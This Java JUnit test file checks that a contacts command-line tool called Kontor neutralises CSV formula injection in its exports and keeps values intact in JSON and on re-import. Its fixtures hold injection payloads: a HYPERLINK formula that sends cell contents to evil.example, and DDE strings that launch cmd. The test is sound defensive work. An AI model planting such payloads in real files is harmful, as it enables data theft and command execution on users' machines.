package de.kontor.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.kontor.testing.CsvSafety;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * CSV formula injection (OWASP): values that start with {@code = + - @} (or have them after a
 * separator), entered on the command line or imported from CSV and vCard, come out as text in
 * every CSV the command line writes; the JSON export keeps them exactly; Kontor's CSV export
 * imported again gives back the original values.
 */
class CsvInjectionCliTest {
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")";
    static final String SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String DDE = "+cmd|' /C calc'!A0";
    static final String MINUS = "-2+3+cmd|' /C calc'!A0";
    static final String NOTES = "Rückruf;=1+1\n-Zeile zwei";

    @TempDir
    Path data;
    @TempDir
    Path files;
    CliRunner cli;
    final ObjectMapper json = new ObjectMapper();

    @BeforeEach
    void init() throws Exception {
        cli = new CliRunner(data);
        cli.ok("init", "--owner", "Inhaberin");
        cli.ok("contacts", "add", "--given", SUM, "--family", HYPERLINK, "--organisation", DDE, "--city", MINUS,
                "--email", "eingabe@example.de", "--phone", "+49 30 1234567", "--notes", NOTES);
        Path csv = files.resolve("fremd.csv");
        Files.writeString(csv, "sourceRecordId,givenName,familyName,email,birthDate,postcode,city,organisation,notes\n"
                + "=A1,Jürgen,\"=Müller\",j1@example.de,1970-04-12,50667,-Köln,@Firma,\"Notiz\n@Zeile\"\n"
                + "@B2,Jürgen,\"=Müller\",j2@example.de,1970-04-12,50667,-Köln,+Firma,x\n", StandardCharsets.UTF_8);
        assertThat(cli.ok("import", "csv", csv.toString()).out()).startsWith("imported 2");
        Path vcf = files.resolve("fremd.vcf");
        Files.writeString(vcf, "BEGIN:VCARD\r\nVERSION:3.0\r\nN:=1+2;@Vera;;;\r\nFN:@Vera =1+2\r\nORG:-Org\r\n"
                + "EMAIL:vera@example.de\r\nTEL:+49 40 7654321\r\nNOTE:+1+1\r\nEND:VCARD\r\n", StandardCharsets.UTF_8);
        assertThat(cli.ok("import", "vcard", vcf.toString()).out()).startsWith("imported 1");
    }

    @Test
    void everyCsvTheCommandLineWritesIsFreeOfFormulaCells() throws Exception {
        for (String delimiter : List.of("comma", "semicolon")) {
            Path out = files.resolve("alle-" + delimiter + ".csv");
            cli.ok("export", "--all", "--format", "csv", "--delimiter", delimiter, "--out", out.toString());
            String text = Files.readString(out, StandardCharsets.UTF_8).substring(1);
            CsvSafety.assertNoFormulaCells(text);
            List<CSVRecord> rows = parse(text, "comma".equals(delimiter) ? ',' : ';');
            CSVRecord typed = rows.stream().filter(r -> r.get("email").equals("eingabe@example.de")).findFirst().orElseThrow();
            assertThat(typed.get("familyName")).isEqualTo("'" + HYPERLINK);
            assertThat(typed.get("givenName")).isEqualTo("'" + SUM);
            assertThat(typed.get("organisation")).isEqualTo("'" + DDE);
            assertThat(typed.get("city")).isEqualTo("'" + MINUS);
            assertThat(typed.get("phone")).isEqualTo("'+49 30 1234567");
            assertThat(typed.get("notes")).isEqualTo("Rückruf;'=1+1\n'-Zeile zwei");
            assertThat(rows).extracting(r -> r.get("familyName")).contains("'=Müller", "'=1+2");
            assertThat(rows).extracting(r -> r.get("organisation")).contains("'@Firma", "'+Firma", "'-Org");
        }

        String contacts = cli.ok("contacts", "list", "--format", "csv").out();
        CsvSafety.assertNoFormulaCells(contacts);
        assertThat(parse(contacts, ',')).extracting(r -> r.get("familyName")).contains("'" + HYPERLINK, "'=Müller", "'=1+2");

        grantNewsletterToEveryone();
        CliRunner.Result list = cli.ok("list", "--purpose", "newsletter");
        CsvSafety.assertNoFormulaCells(list.out());
        assertThat(parse(list.out(), ',')).hasSize(4).extracting(r -> r.get("city")).contains("'" + MINUS, "'-Köln");

        String scan = cli.ok("dedupe", "scan", "--threshold", "0.5").out();
        CsvSafety.assertNoFormulaCells(scan);
        assertThat(parse(scan, ',')).anySatisfy(r -> assertThat(List.of(r.get("source_record_id_a"),
                r.get("source_record_id_b"))).containsExactlyInAnyOrder("'=A1", "'@B2"));
        Path scanFile = files.resolve("paare.csv");
        cli.ok("dedupe", "scan", "--threshold", "0.5", "--out", scanFile.toString());
        CsvSafety.assertNoFormulaCells(Files.readString(scanFile));
    }

    @Test
    void retentionDueListsAPostponementReasonAsText() throws Exception {
        String due = cli.ok("retention", "due", "--as-of", "2100-01-01").out();
        CSVRecord item = parse(due, ',').get(0);
        cli.ok("retention", "postpone", "--type", item.get("type"), "--id", item.get("id"), "--until", "2100-06-01",
                "--reason", "=HYPERLINK(\"http://evil.example\")");
        String later = cli.ok("retention", "due", "--as-of", "2100-07-01").out();
        CsvSafety.assertNoFormulaCells(later);
        assertThat(parse(later, ',')).extracting(r -> r.get("postponed")).contains("'=HYPERLINK(\"http://evil.example\")");
    }

    @Test
    void theJsonExportKeepsTheValuesExactly() throws Exception {
        Path out = files.resolve("alle.json");
        cli.ok("export", "--all", "--format", "json", "--out", out.toString());
        JsonNode people = json.readTree(out.toFile()).get("people");
        List<String> family = new ArrayList<>();
        people.forEach(p -> family.add(p.get("familyName").asText()));
        assertThat(family).contains(HYPERLINK, "=Müller", "=1+2");
        JsonNode typed = null;
        for (JsonNode p : people) {
            if (HYPERLINK.equals(p.get("familyName").asText())) {
                typed = p;
            }
        }
        assertThat(typed).isNotNull();
        assertThat(typed.get("givenName").asText()).isEqualTo(SUM);
        assertThat(typed.get("notes").asText()).isEqualTo(NOTES);
    }

    @Test
    void kontorsCsvImportedAgainGivesBackTheOriginalValues() throws Exception {
        Path out = files.resolve("alle.csv");
        cli.ok("export", "--all", "--format", "csv", "--delimiter", "semicolon", "--out", out.toString());
        CliRunner other = new CliRunner(files.resolve("andere"));
        other.ok("init", "--owner", "Inhaberin");
        assertThat(other.ok("import", "csv", out.toString()).out()).startsWith("imported 4");
        JsonNode typed = person(other, HYPERLINK);
        assertThat(typed.get("givenName").asText()).isEqualTo(SUM);
        assertThat(typed.get("organisation").asText()).isEqualTo(DDE);
        assertThat(typed.get("notes").asText()).isEqualTo(NOTES);
        assertThat(typed.get("phones").get(0).get("number").asText()).isEqualTo("+49 30 1234567");
        assertThat(typed.get("addresses").get(0).get("city").asText()).isEqualTo(MINUS);
        assertThat(person(other, "=1+2").get("givenName").asText()).isEqualTo("@Vera");

        // The command line's list is Kontor's too.
        Path listed = files.resolve("liste.csv");
        Files.writeString(listed, cli.ok("contacts", "list", "--format", "csv").out());
        CliRunner third = new CliRunner(files.resolve("dritte"));
        third.ok("init", "--owner", "Inhaberin");
        assertThat(third.ok("import", "csv", listed.toString()).out()).startsWith("imported 4");
        assertThat(person(third, HYPERLINK).get("givenName").asText()).isEqualTo(SUM);
    }

    @Test
    void aForeignCsvKeepsItsQuotes() throws Exception {
        Path csv = files.resolve("quote.csv");
        Files.writeString(csv, "givenName,familyName,email\nAnna,'=Text,anna@example.de\n", StandardCharsets.UTF_8);
        cli.ok("import", "csv", csv.toString());
        assertThat(person(cli, "'=Text").get("givenName").asText()).isEqualTo("Anna");
    }

    private JsonNode person(CliRunner runner, String familyName) throws Exception {
        JsonNode rows = json.readTree(runner.ok("contacts", "list", "--format", "json").out());
        for (JsonNode r : rows) {
            if (familyName.equals(r.get("familyName").asText())) {
                return json.readTree(runner.ok("contacts", "show", r.get("id").asText(), "--format", "json").out());
            }
        }
        throw new AssertionError("no person " + familyName + " in " + rows);
    }

    private void grantNewsletterToEveryone() throws Exception {
        Path text = files.resolve("nl.txt");
        Files.writeString(text, "Newsletter ja");
        cli.ok("consent-texts", "add", "--purpose", "newsletter", "--version", "1", "--file", text.toString());
        for (JsonNode r : json.readTree(cli.ok("contacts", "list", "--format", "json").out())) {
            cli.ok("consent", "grant", "--person", r.get("id").asText(), "--purpose", "newsletter", "--method",
                    "written-form", "--text-version", "1");
        }
    }

    private static List<CSVRecord> parse(String text, char delimiter) throws Exception {
        try (CSVParser p = CSVParser.parse(text, CSVFormat.DEFAULT.builder().setDelimiter(delimiter).setHeader()
                .setSkipHeaderRecord(true).get())) {
            return p.getRecords();
        }
    }
}
